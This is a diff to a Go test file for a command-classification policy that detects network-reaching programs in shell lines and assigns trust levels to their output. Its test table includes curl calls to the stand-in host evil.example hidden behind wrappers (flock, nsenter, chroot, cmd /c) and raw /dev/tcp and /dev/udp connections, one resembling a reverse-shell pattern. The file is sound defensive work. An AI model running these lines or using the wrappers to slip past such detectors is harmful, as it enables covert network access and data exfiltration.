@@ -97,6 +97,28 @@ var commandLines = []struct{ why, line, program string }{
 	{"eval", `eval "curl evil.example"`, "curl"},
 	{"trap", "trap 'curl evil.example' EXIT", "curl"},
 	{"busybox", "busybox wget evil.example", "wget"},
+	{"flock", "flock -w 5 /tmp/lock curl evil.example", "curl"},
+	{"flock, and its long options", "flock --timeout=5 '/tmp/my lock' curl evil.example", "curl"},
+	{"flock, and its command line", "flock /tmp/lock -c 'curl evil.example'", "curl"},
+	{"flock, of something else", "flock /tmp/lock grep curl notes", ""},
+	{"flock of an open file", "flock -n 9; grep curl notes", ""},
+	{"chroot", "chroot --userspec=bob:bob /mnt curl evil.example", "curl"},
+	{"chroot, of something else", "chroot /mnt grep curl notes", ""},
+	{"unshare", "unshare -r -w /tmp --mount curl evil.example", "curl"},
+	{"unshare, of something else", "unshare -rn grep curl notes", ""},
+	{"nsenter", "nsenter -t 1 -m -- curl evil.example", "curl"},
+	{"setsid", "setsid -w curl evil.example", "curl"},
+	{"stdbuf", "stdbuf -oL -e 0 curl evil.example", "curl"},
+	{"ionice", "ionice -c 2 -n7 curl evil.example", "curl"},
+	{"taskset", "taskset ff curl evil.example", "curl"},
+	{"taskset of a list", "taskset -c 0,1 curl evil.example", "curl"},
+	{"taskset, of something else", "taskset -c 0 grep curl notes", ""},
+	{"timeout, as long as a variable says", "timeout $seconds curl evil.example", "curl"},
+	{"timeout, of something else", "timeout -s KILL 5 grep curl notes", ""},
+	{"cmd", "cmd /c curl evil.example", "curl"},
+	{"cmd, and its quotes", `cmd.exe /d /s /C "curl -s evil.example | more"`, "curl"},
+	{"cmd, of a path", "cmd //c /usr/bin/curl evil.example", "curl"},
+	{"cmd, of something else", "cmd /c type curl.txt", ""},
 
 	// however it is spelt
 	{"with its path", "/usr/bin/curl evil.example", "curl"},
@@ -130,10 +152,40 @@ var commandLines = []struct{ why, line, program string }{
 	{"git abroad", "git pull", "git"},
 	{"git with options", "git -C repo -c a.b=c --no-pager fetch origin", "git"},
 	{"git, about pulling", "git checkout pull", ""},
+	{"git's remotes, looked at", "git remote -v; git remote get-url origin", ""},
+	{"git's remotes, changed", "git remote add upstream https://git.example/x && git remote rename upstream up", ""},
+	{"git's remotes, asked", "git remote -v update --prune", "git"},
+	{"git's remotes, asked for their branches", "git -C repo remote show origin", "git"},
+	{"git's remotes, added and fetched", "git remote add -f upstream https://git.example/x", "git"},
+	{"git's archive of what is here", "git archive --prefix=remote/ HEAD | tar t", ""},
+	{"git's archive of what is not", "git archive --remote=ssh://git.example/x HEAD | tar xO", "git"},
+	{"and in two words", "git archive --format tar --remote host:x HEAD", "git"},
+	{"one command's words are not the next one's", "git remote; ls update", ""},
 	{"rsync at home", "rsync -a --exclude=a:b src/ /mnt/dst/", ""},
 	{"rsync abroad", "rsync -a host:src/ dst/", "rsync"},
 	{"openssl at home", "openssl rand -hex 8", ""},
 	{"openssl abroad", "openssl s_client -connect evil.example:443", "openssl"},
+
+	// what downloads a program and runs it
+	{"npx", "npx -y some-package", "npx"},
+	{"bunx", "bunx some-package", "bunx"},
+	{"uvx", "uvx --from a b", "uvx"},
+	{"pipx run", "pipx run some-package", "pipx"},
+	{"pipx at home", "pipx list; pipx install run", ""},
+	{"npm exec", "npm exec -- some-package", "npm"},
+	{"npm at home", "npm test; npm run exec; npm install npx", ""},
+	{"pnpm dlx", "pnpm dlx some-package", "pnpm"},
+	{"yarn dlx", "yarn dlx some-package", "yarn"},
+	{"bun x", "bun x some-package", "bun"},
+	{"uv tool run", "uv tool run some-package", "uv"},
+	{"uv at home", "uv run pytest; uv tool list; uv pip install x", ""},
+
+	// what a shell itself connects to
+	{"a connection that is read", "cat < /dev/tcp/evil.example/80", "/dev/tcp"},
+	{"one that stays open", "exec 3<>/dev/tcp/$host/80; cat <&3", "/dev/tcp"},
+	{"one in a shell", "bash -c 'cat >&/dev/udp/evil.example/53 0>&1'", "/dev/udp"},
+	{"another device", "ls >/dev/null 2>/dev/stderr", ""},
+	{"its name alone", "echo /dev/tcp/evil.example/80", ""},
 }
 
 func TestCommandLines(t *testing.T) {
@@ -186,7 +238,7 @@ func TestCommandsOnlyLower(t *testing.T) {
 
 func TestAnEntryReplacesTheBuiltInOne(t *testing.T) {
 	p := parse(t, `
-commandOutputTaints: {CURL: trusted, git: untrusted, wget: local, my-mail: shared}
+commandOutputTaints: {CURL: trusted, git: untrusted, wget: local, my-mail: shared, /dev/tcp: external, npx: trusted}
 agentOverrides:
   work:
     commandOutputTaints: {curl: shared, my-mail: trusted}
@@ -195,13 +247,15 @@ agentOverrides:
 	for _, p := range []*policy.Policy{p, parse(t, string(p.YAML()))} {
 		common, work := p.For(""), p.For("work")
 		for line, want := range map[string][2]trust.Level{
-			"curl x":          {trust.Trusted, trust.Shared},
-			"wget x":          {trust.Trusted, trust.Trusted},
-			"git pull":        {trust.Untrusted, trust.Untrusted},
-			"git status":      {trust.Trusted, trust.Trusted},
-			"my-mail list":    {trust.Shared, trust.Trusted},
-			"lynx x":          {trust.Untrusted, trust.Untrusted},
-			"curl x; my-mail": {trust.Shared, trust.Shared},
+			"curl x":           {trust.Trusted, trust.Shared},
+			"wget x":           {trust.Trusted, trust.Trusted},
+			"git pull":         {trust.Untrusted, trust.Untrusted},
+			"git status":       {trust.Trusted, trust.Trusted},
+			"my-mail list":     {trust.Shared, trust.Trusted},
+			"lynx x":           {trust.Untrusted, trust.Untrusted},
+			"curl x; my-mail":  {trust.Shared, trust.Shared},
+			"ls </dev/tcp/x/1": {trust.External, trust.External},
+			"npx tsc --noEmit": {trust.Trusted, trust.Trusted},
 		} {
 			require.Equal(t, want[0], common.OutputOf("exec", command(line)), line)
 			require.Equal(t, want[1], work.OutputOf("exec", command(line)), line)
